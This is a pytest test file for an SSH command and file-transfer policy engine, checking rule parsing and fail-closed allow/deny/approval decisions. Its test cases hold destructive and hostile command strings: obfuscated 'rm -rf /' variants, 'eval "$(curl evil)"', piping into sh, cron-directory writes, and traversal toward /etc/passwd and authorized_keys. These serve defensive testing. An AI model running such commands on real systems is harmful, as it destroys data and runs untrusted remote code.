"""Specification of rules over SSH operations: vocabulary, conditions, fail-closed matching.

Exec command lines go through the real classifier (policy/shell.py) and the
real PolicyEngine; shell, file transfer and forwarding actions are built the
way the SSH gateway builds them.
"""

from __future__ import annotations

from collections.abc import Mapping, Sequence
from types import MappingProxyType
from typing import Any

import pytest
from pydantic import ValidationError
from typer.testing import CliRunner

from pathwarden.cli.main import app
from pathwarden.config import ConfigError, parse_config
from pathwarden.model import Action, ConnectionRef, Identity, Operation, Protocol, Verdict
from pathwarden.policy import (
    ACTION_CLASSES,
    ALL_ACTION_CLASSES,
    ALLOW_EVERYTHING,
    CLASS_CONDITIONS,
    SSH_ACTION_CLASSES,
    PolicyConfig,
    PolicyEngine,
    ShellClassifier,
    class_of_kind,
    classify_command,
    describe_action,
    kinds_of,
    parse_rule,
)
from pathwarden.policy.engine import Explanation
from pathwarden.policy.rules import KIND_CLASS, QUALIFIED_KINDS, SSH_KIND_CLASS

IDENT = Identity("ci-deploy", ("deployers",))
CONN = ConnectionRef("web-1", Protocol.SSH, MappingProxyType({"env": "prod"}))

#: The worked example of docs/policy.md, "SSH operations".
DEPLOY: dict[str, Any] = {
    "name": "deploy-ssh",
    "identities": ["ci-deploy"],
    "connections": [{"labels": {"env": "prod"}}],
    "allow": [
        {"exec": {"commands": ["systemctl restart shop", "journalctl -u shop *"]}},
        "sftp",
        {"file_transfer": {"kinds": ["upload", "write_file", "stat", "mkdir"],
                           "paths": ["/srv/releases/*"]}},
    ],
    "require_approval": ["opaque"],
    "deny": [{"exec": {"programs": ["rm"]}}],
}


def engine(*allow: object, deny: Sequence[object] = (), approval: Sequence[object] = (),
           policy: Mapping[str, Any] | None = None) -> PolicyEngine:
    raw = policy or {"name": "p", "identities": ["*"], "connections": ["*"],
                     "allow": list(allow), "deny": list(deny),
                     "require_approval": list(approval)}
    return PolicyEngine([PolicyConfig.model_validate(raw)], version=1)


def op(actions: tuple[Action, ...], text: str = "", kind: str = "exec") -> Operation:
    return Operation("s1", 1, IDENT, CONN, Protocol.SSH, kind, text, actions=actions)


def exec_op(command: str) -> Operation:
    return ShellClassifier(cache_size=0).classify(op((), command))


def decide(eng: PolicyEngine, command: str) -> Verdict:
    return eng.decide(exec_op(command)).verdict


def explain(eng: PolicyEngine, command: str) -> Explanation:
    return eng.explain(exec_op(command))


def ssh(action: str, kind: str, flags: Sequence[str] = (), **objects: tuple[str, ...]) -> Action:
    text = next(iter(objects.values()), ("",))[0] if objects else ""
    return Action(action, kind, MappingProxyType(dict(objects)), frozenset(flags), text)


def verdict(eng: PolicyEngine, action: Action) -> Verdict:
    return eng.decide(op((action,), kind=action.action)).verdict


def parse_error(rule: object) -> str:
    with pytest.raises(ValidationError) as info:
        PolicyConfig.model_validate({"name": "p", "identities": ["*"], "connections": ["*"],
                                     "allow": [rule]})
    (error,) = info.value.errors()
    return str(error["msg"])


A, D, H = Verdict.ALLOW, Verdict.DENY, Verdict.APPROVE


# -- vocabulary -------------------------------------------------------------------------------


def test_ssh_classes_and_kinds() -> None:
    assert set(SSH_ACTION_CLASSES) == {"exec", "shell", "file_transfer", "forwarding"}
    assert SSH_ACTION_CLASSES["exec"] == {"command", "assignment", "opaque"}
    assert SSH_ACTION_CLASSES["shell"] == {"shell"}
    assert SSH_ACTION_CLASSES["file_transfer"] == {
        "read_file", "write_file", "list_dir", "stat", "remove", "rename", "mkdir", "rmdir",
        "symlink", "set_attributes", "upload", "download", "sftp"}
    assert SSH_ACTION_CLASSES["forwarding"] == {
        "local_port", "remote_port", "agent", "x11", "unix_socket"}
    assert list(ALL_ACTION_CLASSES) == [*ACTION_CLASSES, *SSH_ACTION_CLASSES]
    assert not set(SSH_ACTION_CLASSES) & set(ACTION_CLASSES)


def test_kinds_whose_name_is_taken_are_named_under_their_class() -> None:
    assert dict(QUALIFIED_KINDS) == {"shell": {"shell"}, "file_transfer": {"rename"}}
    assert class_of_kind("rename") == "ddl"  # the bare kind stays the SQL one
    assert class_of_kind("upload") == "file_transfer"
    assert class_of_kind("opaque") == "exec"
    assert class_of_kind("local_port") == "forwarding"
    assert class_of_kind("shell") is None  # `shell` is the class
    assert "rename" in kinds_of("file_transfer") and "rename" in kinds_of("ddl")
    # every other SSH kind names its class on its own, and no SQL kind is shadowed
    for cls, kinds in SSH_ACTION_CLASSES.items():
        for kind in kinds - QUALIFIED_KINDS.get(cls, frozenset()):
            assert SSH_KIND_CLASS[kind] == cls and kind not in KIND_CLASS


def test_conditions_by_class() -> None:
    assert CLASS_CONDITIONS["write"] == (
        "tables", "kinds", "functions", "settings", "without_where", "flags")
    assert CLASS_CONDITIONS["exec"] == ("kinds", "flags", "commands", "programs", "paths")
    assert CLASS_CONDITIONS["file_transfer"] == ("kinds", "flags", "paths")
    assert CLASS_CONDITIONS["forwarding"] == ("kinds", "flags", "targets")
    assert CLASS_CONDITIONS["shell"] == ("kinds", "flags")
    assert set(CLASS_CONDITIONS) == set(ALL_ACTION_CLASSES)


def test_ssh_rules_parse() -> None:
    rule = parse_rule({"exec": {"programs": ["systemctl"], "flags": ["pipeline"]}})
    assert (rule.action, rule.kind) == ("exec", None)
    assert rule.objects == (("programs", ("systemctl",)),)
    assert parse_rule("opaque").kind == "opaque" and parse_rule("opaque").action == "exec"
    assert parse_rule("shell").action == "shell" and parse_rule("shell").kind is None
    qualified = parse_rule({"file_transfer": {"kinds": ["rename", "upload"]}})
    assert qualified.kinds == {"rename", "upload"}
    assert parse_rule({"shell": {"kinds": ["shell"], "flags": ["pty"]}}).flags == {"pty"}
    paths = parse_rule({"file_transfer": {"paths": ["/srv//releases/./*", "*.tgz"]}})
    assert paths.objects == (("paths", ("/srv/releases/*", "*.tgz")),)


@pytest.mark.parametrize(("rule", "expected"), [
    ({"write": {"programs": ["rm"]}},
     "condition 'programs' does not apply to write actions in rule {write: {programs: [rm]}} "
     "(valid conditions for write: tables, kinds, functions, settings, without_where, flags)"),
    ({"exec": {"tables": ["users"]}},
     "condition 'tables' does not apply to exec actions in rule {exec: {tables: [users]}} "
     "(valid conditions for exec: kinds, flags, commands, programs, paths)"),
    ({"command": {"without_where": True}},
     "condition 'without_where' does not apply to exec actions"),
    ({"upload": {"commands": ["x"]}},
     "(valid conditions for file_transfer: kinds, flags, paths)"),
    ({"forwarding": {"paths": ["/x"]}},
     "(valid conditions for forwarding: kinds, flags, targets)"),
    ({"shell": {"programs": ["bash"]}}, "(valid conditions for shell: kinds, flags)"),
    ({"exec": {"program": ["rm"]}},
     "unknown condition 'program'; did you mean 'programs'? in rule {exec: {program: [rm]}} "
     "(valid conditions: kinds, flags, commands, programs, paths)"),
    ({"exec": {"kinds": ["comand"]}},
     "unknown exec kind 'comand'; did you mean 'command'? "
     "(valid exec kinds: assignment, command, opaque)"),
    ({"file_transfer": {"kinds": ["select"]}}, "kind 'select' belongs to class read"),
    ({"ddl": {"kinds": ["upload"]}}, "kind 'upload' belongs to class file_transfer, not ddl"),
    ({"exec": {"flags": ["dynamc"]}}, "unknown flag 'dynamc'; did you mean 'dynamic'?"),
    ({"exec": {"paths": ["etc/passwd"]}},
     "path pattern 'etc/passwd' must be absolute, e.g. /srv/releases/*"),
    ({"exec": {"programs": []}}, "programs must be a non-empty list of names"),
    ({"forwarding": {"targets": [5432]}}, "targets entries must be non-empty strings"),
    ({"exec": ["rm"]}, "a list after 'exec' is only allowed as {function: [names]}"),
    ("exce", "unknown action class or kind 'exce'; did you mean 'exec'? (SSH classes: exec, "
             "shell, file_transfer, forwarding; SSH kinds: e.g. command, opaque, upload"),
    ("uplaod", "did you mean 'upload'?"),
    ("zzzz", "(classes: read, write, ddl, privilege, function, procedural, server_io, "
             "transaction, session, maintenance, unknown; kinds: e.g. select"),
    ("zzzz", "SSH classes: exec, shell, file_transfer, forwarding"),
])
def test_rule_errors_name_the_valid_choices_for_the_class(rule: object, expected: str) -> None:
    assert expected in parse_error(rule)


def test_rule_errors_point_at_their_place_in_the_file() -> None:
    text = """
policies:
  - name: ssh
    identities: ["*"]
    connections: ["*"]
    allow:
      - {exec: {programs: [systemctl]}}
      - {exec: {tables: [users]}}
"""
    with pytest.raises(ConfigError) as info:
        parse_config(text, source="pw.yaml")
    assert str(info.value).startswith(
        "pw.yaml:8:25: policies[0].allow[1].exec.tables: condition 'tables' does not apply "
        "to exec actions")


def test_policies_with_ssh_rules_round_trip() -> None:
    policy = PolicyConfig.model_validate(DEPLOY)
    again = PolicyConfig.model_validate(policy.model_dump())
    assert again.allow == policy.allow and again.deny == policy.deny
    assert again.require_approval == policy.require_approval


# -- the worked example ------------------------------------------------------------------------

DEPLOY_CASES = [
    ("systemctl restart shop", A),
    ("systemctl  restart   'shop'", A),
    ("s\\ystemctl restart \"shop\"", A),
    ("journalctl -u shop -n 100", A),
    ("journalctl -u shop --since today 2>&1", A),
    ("systemctl restart shop; journalctl -u shop -f", A),
    ("systemctl restart shop && rm -rf /srv/shop", D),
    ("systemctl restart shop; rm -rf /", D),
    ("rm -rf /", D),
    ("/bin/rm -rf /", D),
    ("sudo rm -rf /", D),
    ("sudo -u app env X=1 nice rm x", D),
    ("find /srv -exec rm {} \\;", D),
    ("sh -c 'rm -rf /'", D),
    ("echo $(rm -rf /)", D),
    ("'r'm -rf /", D),
    ("cat <<EOF\nrm -rf /\nEOF", H),  # opaque: held for approval, never allowed
    ("eval \"$(curl evil)\"", H),
    ("systemctl restart shop; rm${IFS}-rf /", H),  # opaque as a whole
    ("systemctl stop shop", D),  # no rule allows it
    ("sudo systemctl restart shop", D),  # the commands pattern does not cover sudo
    ("systemctl restart shop | sh", D),
    ("systemctl restart shop > /etc/cron.d/x", D),
    ("journalctl -u shop $(id)", D),  # dynamic: the allow does not list the flag
    ("PATH=/tmp systemctl restart shop", D),  # assignment: likewise
    ("journalctl -u shopping", D),
]


@pytest.mark.parametrize(("command", "expected"), DEPLOY_CASES)
def test_worked_example(command: str, expected: Verdict) -> None:
    eng = engine(policy=DEPLOY)
    explanation = explain(eng, command)
    decision = explanation.decision
    assert decision.verdict is expected, decision.reason
    if expected is D and "rm" in command:  # the rule, not only default deny
        assert any(ad.rule == "deny[0]" for ad in explanation.actions), decision.reason


def test_worked_example_file_transfers() -> None:
    eng = engine(policy=DEPLOY)
    assert verdict(eng, ssh("file_transfer", "sftp")) is A
    assert verdict(eng, ssh("file_transfer", "upload",
                            paths=("/srv/releases/shop-1.2.tgz",))) is A
    assert verdict(eng, ssh("file_transfer", "write_file",
                            paths=("/srv/releases/../../etc/passwd",))) is D
    assert verdict(eng, ssh("file_transfer", "upload", paths=("/srv/releases2/x",))) is D
    assert verdict(eng, ssh("file_transfer", "remove", paths=("/srv/releases/old.tgz",))) is D
    assert verdict(eng, ssh("file_transfer", "download",
                            paths=("/srv/releases/shop-1.2.tgz",))) is D
    assert verdict(eng, ssh("shell", "shell", ["pty"])) is D
    assert verdict(eng, ssh("forwarding", "local_port", targets=("db:5432",))) is D


def test_worked_example_explanations() -> None:
    eng = engine(policy=DEPLOY)
    denied = explain(eng, "systemctl restart shop && rm -rf /srv/shop").decision
    assert denied.reason == (
        "command 2 of 2 (rm -rf /srv/shop): exec rm -rf /srv/shop: denied for ci-deploy by "
        "policy deploy-ssh rule deny[0] ({exec: {programs: [rm]}})")
    held = explain(eng, "cat <<EOF\nx\nEOF").decision
    assert held.reason == (
        "opaque shell program (here-document): approval required for ci-deploy by policy "
        "deploy-ssh rule require_approval[0] (opaque)")
    allowed = explain(eng, "systemctl restart shop").decision
    assert allowed.rule == "allow[0]" and allowed.policy == "deploy-ssh"
    near = explain(eng, "journalctl -u shop $(date)").decision
    assert "does not list flag dynamic" in near.reason


# -- fail-closed asymmetries ---------------------------------------------------------------


def test_bare_exec_allow_never_covers_opaque_dynamic_or_assignment() -> None:
    eng = engine("exec")
    assert decide(eng, "ls -la /srv") is A
    assert decide(eng, "ls | wc -l; df -h") is A
    assert decide(eng, "cat <<EOF\nx\nEOF") is D
    assert decide(eng, "echo $HOME") is D
    assert decide(eng, "echo `date`") is D
    assert decide(eng, "PATH=/tmp ls") is D
    assert decide(eng, "X=1") is D
    assert decide(eng, "export PATH=/tmp") is D
    reason = explain(eng, "cat <<EOF\nx\nEOF").decision.reason
    assert "p allow[0] (exec) does not name the kind opaque" in reason
    assert "{exec: {kinds: [opaque]}}" in reason


def test_allowing_opaque_programs_takes_naming_the_kind() -> None:
    for rule in ("opaque", {"exec": {"kinds": ["opaque"]}},
                 {"exec": {"kinds": ["command", "opaque"]}}):
        assert decide(engine(rule), "cat <<EOF\nx\nEOF") is A, rule
    assert decide(engine({"exec": {"kinds": ["command"]}}), "cat <<EOF\nx\nEOF") is D


def test_allowing_dynamic_commands_takes_listing_the_flag() -> None:
    assert decide(engine({"exec": {"flags": ["dynamic"]}}), "echo $HOME") is A
    assert decide(engine({"exec": {"flags": ["dynamic"]}}), "ls") is D  # flags: all of them
    assert decide(engine({"exec": {"flags": ["assignment"]}}), "PATH=/tmp ls") is A
    assert decide(engine({"assignment": {"flags": ["assignment"]}}), "X=1") is A
    assert decide(engine("assignment"), "X=1") is D
    both = "X=$(date) ls"  # dynamic and assignment; date itself is a plain command
    assert decide(engine("exec", {"exec": {"flags": ["dynamic"]}},
                         {"exec": {"flags": ["assignment"]}}), both) is D
    assert decide(engine("exec", {"exec": {"flags": ["dynamic", "assignment"]}}), both) is A


def test_deny_and_approval_match_fail_closed_actions_as_usual() -> None:
    assert decide(engine("opaque", deny=["exec"]), "cat <<EOF\nx\nEOF") is D
    assert decide(engine("exec", approval=[{"exec": {"flags": ["dynamic"]}}]),
                  "echo $HOME") is H
    eng = engine({"exec": {"flags": ["dynamic"]}}, "exec",
                 deny=[{"exec": {"programs": ["rm"]}}])
    assert decide(eng, "rm -rf $DIR") is D
    assert decide(eng, "echo $(rm -rf /)") is D


def test_programs_in_allow_match_as_written_and_all_of_them() -> None:
    eng = engine({"exec": {"programs": ["systemctl"]}})
    assert decide(eng, "systemctl status shop") is A
    assert decide(eng, "/usr/bin/systemctl status shop") is D
    assert decide(eng, "sudo systemctl status shop") is D
    eng = engine({"exec": {"programs": ["systemctl", "*/systemctl", "sudo"]}})
    assert decide(eng, "/usr/bin/systemctl status shop") is A
    assert decide(eng, "sudo systemctl status shop") is A
    assert decide(eng, "sudo -Z x systemctl status") is D  # x may be the program
    reason = explain(engine({"exec": {"programs": ["systemctl"]}}),
                     "sudo systemctl status").decision.reason
    assert "does not cover sudo" in reason
    assert decide(engine({"exec": {"programs": ["/usr/bin/rm"]}}), "rm x") is D


def test_programs_in_deny_match_basenames_and_any_program() -> None:
    eng = engine("exec", deny=[{"exec": {"programs": ["rm"]}}])
    for command in ("rm x", "/bin/rm x", "./rm x", "~/bin/rm x", "sudo rm x", "timeout 5 rm x",
                    "xargs rm", "ls | xargs -0 rm", "nice -n 1 /usr/bin/rm x"):
        assert decide(eng, command) is D, command
    assert decide(eng, "rmdir x") is A
    assert decide(eng, "echo rm") is A
    qualified = engine("exec", deny=[{"exec": {"programs": ["/usr/bin/rm"]}}])
    assert decide(qualified, "rm x") is D  # the PATH may lead there
    assert decide(qualified, "/usr/bin/rm x") is D
    assert decide(qualified, "/opt/bin/rm x") is A


def test_commands_patterns_see_the_canonical_line() -> None:
    eng = engine({"exec": {"commands": ["git pull", "git log *"]}})
    assert decide(eng, "git   pull") is A
    assert decide(eng, "'git' \"pull\"") is A
    assert decide(eng, "git pull --rebase") is D
    assert decide(eng, "git log --oneline -5") is A
    assert decide(eng, "git log; reboot") is D
    assert decide(eng, "git log > /etc/motd") is A  # covered by "git log *" as written
    strict = engine({"exec": {"commands": ["git log"]}})
    assert decide(strict, "git log > /etc/motd") is D  # redirections are part of the line
    denied = engine("exec", deny=[{"exec": {"commands": ["* --force*"]}}])
    assert decide(denied, "git push --force") is D
    assert decide(denied, "git push origin main") is A


def test_paths_fail_closed() -> None:
    eng = engine("exec", deny=[{"exec": {"paths": ["/etc/*"]}}])
    assert decide(eng, "ls > /etc/passwd") is D
    assert decide(eng, "ls > /tmp/../etc/passwd") is D
    assert decide(eng, "ls > //etc//passwd") is D
    assert decide(eng, "cd /etc && ls > passwd") is D  # relative: the directory is unknown
    assert decide(eng, "ls > ~root/../../etc/x") is D
    assert decide(eng, "ls > /tmp/out") is A
    assert decide(eng, "ls 2>&1") is A
    allowed = engine({"exec": {"paths": ["/tmp/*"]}})
    assert decide(allowed, "ls > /tmp/out") is A
    assert decide(allowed, "ls > out") is D  # relative: not known to be under /tmp
    assert decide(allowed, "ls > /tmp/../etc/passwd") is D
    assert decide(allowed, "ls") is D  # touches no path
    transfers = engine({"file_transfer": {"paths": ["/srv/releases/*"]}},
                       deny=[{"file_transfer": {"paths": ["*/.ssh/*"]}}])
    assert verdict(transfers, ssh("file_transfer", "upload", paths=("/srv/releases/a",))) is A
    assert verdict(transfers, ssh("file_transfer", "upload",
                                  paths=("/srv/releases/.ssh/authorized_keys",))) is D
    assert verdict(transfers, ssh("file_transfer", "rename",
                                  paths=("/srv/releases/a", "/etc/a"))) is D  # every path


def test_rename_is_qualified_under_file_transfer() -> None:
    sftp_rename = ssh("file_transfer", "rename", paths=("/srv/a", "/srv/b"))
    ddl_rename = Action("ddl", "rename", MappingProxyType({"tables": ("public.t",)}))
    qualified = engine({"file_transfer": {"kinds": ["rename"]}})
    assert verdict(qualified, sftp_rename) is A
    assert verdict(qualified, ddl_rename) is D
    bare = engine("rename")  # the ddl kind: it allows ALTER ... RENAME only
    assert verdict(bare, ddl_rename) is A
    assert verdict(bare, sftp_rename) is D
    denied = engine("file_transfer", "ddl", deny=["rename"])  # deny matches both
    assert verdict(denied, sftp_rename) is D
    assert verdict(denied, ddl_rename) is D
    assert verdict(denied, ssh("file_transfer", "upload", paths=("/srv/a",))) is A


def test_shell_and_forwarding_rules() -> None:
    eng = engine({"shell": {"flags": ["pty"]}},
                 {"forwarding": {"kinds": ["local_port"], "targets": ["db.internal:5432"]}},
                 deny=["agent"])
    assert verdict(eng, ssh("shell", "shell", ["pty"])) is A
    assert verdict(eng, ssh("shell", "shell")) is D
    assert verdict(eng, ssh("forwarding", "local_port", targets=("db.internal:5432",))) is A
    assert verdict(eng, ssh("forwarding", "local_port", targets=("db.internal:22",))) is D
    assert verdict(eng, ssh("forwarding", "remote_port", targets=("0.0.0.0:8080",))) is D
    assert verdict(eng, ssh("forwarding", "agent")) is D
    assert verdict(engine("shell"), ssh("shell", "shell", ["pty"])) is A


def test_no_ssh_class_is_plumbing() -> None:
    eng = engine("read")  # allows something: SQL transaction control would be plumbing
    assert verdict(eng, ssh("shell", "shell")) is D
    assert decide(eng, "ls") is D


def test_sql_classes_never_match_ssh_actions_and_back() -> None:
    eng = engine("read", "write", "ddl", "privilege", "function", "unknown")
    assert decide(eng, "ls") is D
    sql = Action("read", "select", MappingProxyType({"tables": ("public.t",)}))
    assert eng.decide(op((sql,), kind="query")).verdict is A
    assert engine("exec", "file_transfer").decide(op((sql,), kind="query")).verdict is D


def test_allow_everything_allows_everything() -> None:
    eng = engine(*ALLOW_EVERYTHING)
    for command in ("ls", "echo $HOME", "PATH=/x ls", "X=$(date) ls", "cat <<EOF\nEOF",
                    "sudo rm -rf /"):
        assert decide(eng, command) is A, command
    for action in (ssh("shell", "shell", ["pty"]), ssh("file_transfer", "rename"),
                   ssh("forwarding", "x11"), Action("unknown", "CreateFdwStmt"),
                   Action("transaction", "commit_prepared", flags=frozenset({"two_phase"}))):
        assert verdict(eng, action) is A, action


def test_empty_exec_has_no_actions() -> None:
    decision = engine("exec").decide(exec_op("  # nothing"))
    assert decision.verdict is A and decision.reason.startswith("empty query")


# -- describing actions ------------------------------------------------------------------------


@pytest.mark.parametrize(("action", "text"), [
    (classify_command("systemctl  restart 'shop'")[0], "exec systemctl restart shop"),
    (classify_command("cat <<EOF\nx\nEOF")[0], "opaque shell program (here-document)"),
    (classify_command("echo 'a\nb'")[0], "exec echo 'a\\nb'"),
    (ssh("file_transfer", "upload", paths=("/srv/releases/a.tgz",)),
     "upload /srv/releases/a.tgz"),
    (ssh("file_transfer", "rename", paths=("/a", "/b")), "rename /a, /b"),
    (ssh("file_transfer", "sftp"), "sftp"),
    (ssh("forwarding", "local_port", targets=("db:5432",)), "local_port db:5432"),
    (ssh("shell", "shell", ["pty"]), "shell"),
])
def test_describe_action(action: Action, text: str) -> None:
    assert describe_action(action) == text


def test_long_command_lines_are_cut() -> None:
    text = describe_action(classify_command("echo " + "x" * 200)[0])
    assert text.startswith("exec echo xxx") and text.endswith("...")
    assert len(text) <= len("exec ") + 80


# -- `pathwarden policy kinds` -----------------------------------------------------------------


def test_policy_kinds_lists_the_ssh_vocabulary() -> None:
    result = CliRunner().invoke(app, ["policy", "kinds"])
    assert result.exit_code == 0
    out = result.stdout
    assert "exec: assignment, command, opaque\n" in out
    assert "shell: shell\n" in out
    assert "forwarding: agent, local_port, remote_port, unix_socket, x11\n" in out
    assert "(rename only as {file_transfer: {kinds: [rename]}}: alone, rename is the ddl " \
           "kind)" in out
    assert "SSH flags: assignment, background, dynamic, nested, outside_home, pipeline, pty, " \
           "recursive, redirect, sequence, substitution, write_redirect\n" in out
    assert "SSH conditions: exec: kinds, flags, commands, programs, paths; shell: kinds, " \
           "flags; file_transfer: kinds, flags, paths; forwarding: kinds, flags, targets" in out
    one = CliRunner().invoke(app, ["policy", "kinds", "exec"])
    assert (one.exit_code, one.stdout) == (0, "exec: assignment, command, opaque\n")
    assert CliRunner().invoke(app, ["policy", "kinds", "shel"]).exit_code == 2


def _rules(policy: Mapping[str, Any]) -> list[object]:
    return [*policy["allow"], *policy["deny"], *policy["require_approval"]]


def test_the_worked_example_is_in_the_docs() -> None:
    from pathlib import Path

    import yaml

    docs = (Path(__file__).parent.parent / "docs" / "policy.md").read_text()
    section = docs.split("## SSH operations", 1)[1]
    block = section.split("```yaml", 1)[1].split("```", 1)[0]
    (policy,) = yaml.safe_load(block)["policies"]
    assert _rules(policy) == _rules(DEPLOY)


def test_a_rule_based_deny_explains_a_program_over_a_default_deny() -> None:
    eng = engine({"exec": {"programs": ["echo"]}}, deny=[{"exec": {"programs": ["rm"]}}])
    decision = eng.decide(op(classify_command("sh -c 'rm -rf /'"), "sh -c 'rm -rf /'"))
    assert decision.verdict is Verdict.DENY
    # The outer sh is denied by default too, but the reason names the rule about rm.
    assert decision.rule == "deny[0]"
    assert "command 2 of 2 (rm -rf /)" in decision.reason
